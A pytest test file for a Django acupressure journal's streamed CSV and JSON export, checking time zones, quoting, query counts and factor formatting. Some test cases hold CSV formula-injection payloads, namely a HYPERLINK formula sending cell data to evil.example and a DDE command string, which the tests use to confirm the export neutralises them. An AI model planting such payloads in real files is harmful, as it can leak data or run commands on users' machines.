"""Export: every session of the user, as CSV or JSON, streamed a chunk at a time."""

import csv
import io
import json
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from journal.models import Factor, PracticeSession, SessionFactor
from tests.factories import (
    FactorFactory,
    PointFactory,
    PracticeSessionFactory,
    PublicRoutineFactory,
    RoutineFactory,
    SessionPointFactory,
    UserFactory,
)

MADRID = ZoneInfo("Europe/Madrid")


@pytest.fixture
def user(db):
    user = UserFactory(username="maria")
    user.profile.time_zone = "Europe/Madrid"
    user.profile.save()
    return user


@pytest.fixture
def points(db):
    return [PointFactory(code="BL23", slug="bl23"), PointFactory(code="LI4", slug="li4")]


def content(response) -> str:
    return b"".join(response.streaming_content).decode()


def csv_rows(response) -> list[dict]:
    text = content(response)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def two_point_session(user, points, **fields):
    session = PracticeSessionFactory(user=user, points=[], **fields)
    SessionPointFactory(session=session, point=points[0], position=0, seconds=60)
    SessionPointFactory(session=session, point=points[1], position=1, seconds=None)
    return session


def test_csv_has_a_header_and_one_row_per_session_in_the_users_time_zone(logged_in, user, points):
    two_point_session(
        user,
        points,
        started_at=datetime(2026, 7, 1, 16, 30, tzinfo=ZoneInfo("UTC")),
        pain_before=7,
        pain_after=3,
        pain_later=2,
        area="leg",
        notes="Warm",
        tool="balls",
    )
    response = logged_in.get("/journal/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert isinstance(response, StreamingHttpResponse)
    [row] = csv_rows(response)
    assert row == {
        "started_at": "2026-07-01T18:30:00+02:00",
        "points": "BL23;LI4",
        "seconds": "60;",
        "pain_before": "7",
        "pain_after": "3",
        "pain_later": "2",
        "area": "leg",
        "notes": "Warm",
        "routine": "",
        "show_in_report": "no",
        "rest": "no",
        "factors": "",
        "tool": "balls",
    }


def test_csv_is_a_dated_attachment_and_not_cached(logged_in):
    response = logged_in.get("/journal/export.csv")
    today = datetime.now(MADRID).date().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="acupressure-journal-{today}.csv"'
    )
    assert "no-store" in response["Cache-Control"]
    assert csv_rows(response) == []


@pytest.mark.parametrize(
    "notes",
    [
        "Pressed, then walked, then rested",
        'She said "press harder"',
        "Line one\nLine two\r\nLine three",
        "Dolor lumbar, mejoró — 腰痛 ✓",
        "1+2 = 3, and a - b @ noon",
        "'quoted' at the start",
        "'",
    ],
)
def test_csv_quotes_notes_so_they_come_back_unchanged(logged_in, user, points, notes):
    PracticeSessionFactory(user=user, points=[points[0]], notes=notes)
    [row] = csv_rows(logged_in.get("/journal/export.csv"))
    assert row["notes"] == notes


@pytest.mark.parametrize(
    ("notes", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("=1+2", "'=1+2"),
        ("+1 good day", "'+1 good day"),
        ("-2 after pressing", "'-2 after pressing"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        # Already starting with ' before a formula: one more, so the import can tell them apart.
        ("'=1+2", "''=1+2"),
        ("''-", "'''-"),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote(
    logged_in, user, points, notes, cell
):
    PracticeSessionFactory(user=user, points=[points[0]], notes=notes)
    [row] = csv_rows(logged_in.get("/journal/export.csv"))
    assert row["notes"] == cell
    [session] = json.loads(content(logged_in.get("/journal/export.json")))["sessions"]
    assert session["notes"] == notes


def test_json_has_typed_values(logged_in, user, points):
    two_point_session(
        user,
        points,
        started_at=datetime(2026, 1, 5, 8, 0, 9, tzinfo=ZoneInfo("UTC")),
        notes='Quote " and comma, 腰',
    )
    response = logged_in.get("/journal/export.json")
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"].endswith('.json"')
    data = json.loads(content(response))
    assert data["format"] == "acupressure-journal"
    assert data["time_zone"] == "Europe/Madrid"
    assert data["sessions"] == [
        {
            "started_at": "2026-01-05T09:00:09+01:00",
            "points": ["BL23", "LI4"],
            "seconds": [60, None],
            "pain_before": 6,
            "pain_after": 4,
            "pain_later": None,
            "area": "lower-back",
            "notes": 'Quote " and comma, 腰',
            "routine": "",
            "show_in_report": "no",
            "rest": "no",
            "factors": [],
            "tool": "",
        }
    ]


def test_empty_journal_exports_valid_json(logged_in):
    assert json.loads(content(logged_in.get("/journal/export.json")))["sessions"] == []


def test_export_holds_only_the_users_own_sessions_oldest_first(logged_in, user, points):
    PracticeSessionFactory(user=UserFactory(username="someone"), notes="not mine")
    newer = PracticeSessionFactory(user=user, points=[points[0]], notes="newer")
    older = PracticeSessionFactory(
        user=user,
        points=[points[1]],
        notes="older",
        started_at=newer.started_at - timedelta(days=400),
    )
    rows = csv_rows(logged_in.get("/journal/export.csv"))
    assert [row["notes"] for row in rows] == [older.notes, newer.notes]


@pytest.mark.parametrize("url", ["/journal/export.csv", "/journal/export.json"])
def test_export_queries_do_not_grow_with_the_number_of_sessions(logged_in, user, points, url):
    def queries_for_export() -> int:
        with CaptureQueriesContext(connection) as queries:
            content(logged_in.get(url))
        return len(queries)

    PracticeSessionFactory.create_batch(3, user=user, points=points)
    few = queries_for_export()
    PracticeSessionFactory.create_batch(30, user=user, points=points)
    assert queries_for_export() == few


def test_export_reads_sessions_and_points_in_one_query(logged_in, user, points, monkeypatch):
    monkeypatch.setattr("journal.exporting.CHUNK_SIZE", 10)
    PracticeSessionFactory.create_batch(25, user=user, points=points)
    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(logged_in.get("/journal/export.csv"))
    assert len(rows) == PracticeSession.objects.count() == 25
    assert all(row["points"] == ";".join(point.code for point in points) for row in rows)
    point_queries = [q for q in queries if "journal_sessionpoint" in q["sql"]]
    assert len(point_queries) == 1


def test_a_session_without_points_is_exported_once(logged_in, user):
    PracticeSessionFactory(user=user, points=[], notes="no points")
    rows = csv_rows(logged_in.get("/journal/export.csv"))
    assert [(row["notes"], row["points"]) for row in rows] == [("no points", "")]


def test_routine_is_exported_as_its_slug_or_your_number(logged_in, user):
    PracticeSessionFactory(
        user=user, routine=PublicRoutineFactory(slug="desk-break"), show_in_report=True
    )
    own = RoutineFactory(owner=user)
    PracticeSessionFactory(user=user, routine=own, started_at=datetime(2020, 1, 1, tzinfo=MADRID))
    rows = csv_rows(logged_in.get("/journal/export.csv"))
    assert [(row["routine"], row["show_in_report"]) for row in rows] == [
        (str(own.pk), "no"),
        ("desk-break", "yes"),
    ]


def add_factors(session, *factors) -> None:
    SessionFactor.objects.bulk_create(SessionFactor(session=session, factor=f) for f in factors)


def test_rest_and_factors_are_exported_by_name_built_in_first(logged_in, user, points):
    """Factors by name, as the log form shows them (built-in ones first), in both formats."""
    hot_bath = FactorFactory(owner=user, name="Hot bath")
    old = FactorFactory(owner=user, name="Old cushion", archived=True)
    pressed = PracticeSessionFactory(
        user=user, points=[points[0]], started_at=datetime(2026, 1, 1, tzinfo=MADRID)
    )
    add_factors(pressed, hot_bath, Factor.objects.get(slug="slept-badly"), old)
    rested = PracticeSessionFactory(
        user=user, points=[], rest_only=True, started_at=datetime(2026, 1, 2, tzinfo=MADRID)
    )
    add_factors(rested, Factor.objects.get(slug="painkiller"))
    PracticeSessionFactory(
        user=user, points=[points[1]], started_at=datetime(2026, 1, 3, tzinfo=MADRID)
    )
    someone = UserFactory(username="someone")
    add_factors(
        PracticeSessionFactory(user=someone, points=[points[1]]),
        FactorFactory(owner=someone, name="Not yours"),
    )

    rows = csv_rows(logged_in.get("/journal/export.csv"))
    assert [(row["points"], row["rest"], row["factors"]) for row in rows] == [
        ("BL23", "no", "Slept badly;Hot bath;Old cushion"),
        ("", "yes", "Painkiller in the last 4 hours"),
        ("LI4", "no", ""),
    ]
    sessions = json.loads(content(logged_in.get("/journal/export.json")))["sessions"]
    assert [(s["rest"], s["factors"]) for s in sessions] == [
        ("no", ["Slept badly", "Hot bath", "Old cushion"]),
        ("yes", ["Painkiller in the last 4 hours"]),
        ("no", []),
    ]


def test_a_semicolon_in_an_older_factor_name_is_exported_as_a_comma(logged_in, user, points):
    """New names cannot contain ";" (it separates factors); one made before that rule is written
    with "," so the cell still splits into the right factors."""
    session = PracticeSessionFactory(user=user, points=[points[0]])
    add_factors(session, FactorFactory(owner=user, name="Tea; then a walk"))
    add_factors(session, FactorFactory(owner=user, name="=cmd|' /C calc'!A0"))
    # A cell that starts like a formula is marked as text, as notes are.
    [row] = csv_rows(logged_in.get("/journal/export.csv"))
    assert row["factors"] == "'=cmd|' /C calc'!A0;Tea, then a walk"
    [exported] = json.loads(content(logged_in.get("/journal/export.json")))["sessions"]
    assert exported["factors"] == ["=cmd|' /C calc'!A0", "Tea, then a walk"]


def test_export_reads_factors_in_one_more_query_whatever_the_size(
    logged_in, user, points, monkeypatch
):
    monkeypatch.setattr("journal.exporting.CHUNK_SIZE", 10)
    mine = FactorFactory(owner=user)
    sessions = PracticeSessionFactory.create_batch(25, user=user, points=points)
    sessions += PracticeSessionFactory.create_batch(5, user=user, points=[], rest_only=True)
    for session in sessions[::2]:
        add_factors(session, mine, Factor.objects.get(slug="stretched"))
    with CaptureQueriesContext(connection) as queries:
        rows = csv_rows(logged_in.get("/journal/export.csv"))
    expected = f"Stretched or exercised;{mine.name}"
    assert [row["factors"] for row in rows] == [
        expected if i % 2 == 0 else "" for i in range(len(sessions))
    ]
    assert [row["rest"] for row in rows] == ["no"] * 25 + ["yes"] * 5
    factor_queries = [q for q in queries if "journal_sessionfactor" in q["sql"]]
    assert len(factor_queries) == 1
